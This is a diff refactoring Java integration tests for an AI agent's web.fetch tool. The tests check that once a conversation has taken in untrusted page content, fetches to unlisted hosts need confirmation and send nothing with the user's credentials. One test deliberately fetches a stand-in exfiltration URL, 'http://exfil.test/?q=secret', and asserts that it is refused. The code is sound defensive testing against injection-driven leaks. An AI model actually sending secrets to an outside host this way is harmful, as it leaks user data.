@@ -165,8 +165,13 @@ class WebFetchIT {
 
   /** A fetch in a conversation of its own, which has taken in nothing yet. */
   static ToolResult fresh(Object... kv) {
+    return in(TestService.id(), kv);
+  }
+
+  /** A fetch in {@code conversation}. */
+  static ToolResult in(String conversation, Object... kv) {
     return agent.execute(new Execute.Params(
-        TestService.id(), TestService.id(), "web.fetch", args(kv), null, null, TestService.id()));
+        TestService.id(), TestService.id(), "web.fetch", args(kv), null, null, conversation));
   }
 
   static JsonNode ok(ToolResult r) {
@@ -312,35 +317,14 @@ class WebFetchIT {
 
       // It acts as the user there: after untrusted content, it asks first, and nothing is sent.
       String conversation = TestService.id();
-      ok(agent.execute(new Execute.Params(
-          TestService.id(),
-          TestService.id(),
-          "web.fetch",
-          args("url", url("/page.html")),
-          null,
-          null,
-          conversation)));
+      ok(in(conversation, "url", url("/page.html")));
       seen.clear();
-      ToolResult unasked = agent.execute(new Execute.Params(
-          TestService.id(),
-          TestService.id(),
-          "web.fetch",
-          args("url", url("/whoami?to=someone")),
-          null,
-          null,
-          conversation));
+      ToolResult unasked = in(conversation, "url", url("/whoami?to=someone"));
       assertEquals(
           ToolErrorCodes.TOKEN_MISSING, unasked.error().code(), String.valueOf(unasked.error()));
       assertEquals(List.of(), seen, "nothing went with the user's header unasked");
       // An allowed address the user configured nothing for is fetched unasked, as before.
-      ok(agent.execute(new Execute.Params(
-          TestService.id(),
-          TestService.id(),
-          "web.fetch",
-          args("url", "http://127.0.0.1:" + otherPort + "/whoami"),
-          null,
-          null,
-          conversation)));
+      ok(in(conversation, "url", "http://127.0.0.1:" + otherPort + "/whoami"));
 
       seen.clear();
       JsonNode away = ok(fresh("url", url("/away")));
@@ -408,23 +392,9 @@ class WebFetchIT {
   @Test
   void an_unlisted_host_asks_first_in_a_tainted_conversation_and_nothing_is_looked_up_before() {
     String conversation = TestService.id();
-    ToolResult read = agent.execute(new Execute.Params(
-        TestService.id(),
-        TestService.id(),
-        "web.fetch",
-        args("url", url("/page.html")),
-        null,
-        null,
-        conversation));
+    ToolResult read = in(conversation, "url", url("/page.html"));
     ok(read);
-    ToolResult out = agent.execute(new Execute.Params(
-        TestService.id(),
-        TestService.id(),
-        "web.fetch",
-        args("url", "http://exfil.test/?q=secret"),
-        null,
-        null,
-        conversation));
+    ToolResult out = in(conversation, "url", "http://exfil.test/?q=secret");
     assertFalse(out.ok());
     assertTrue(
         List.of(ToolErrorCodes.TOKEN_MISSING, ToolErrorCodes.CONFIRMATION_REQUIRED)
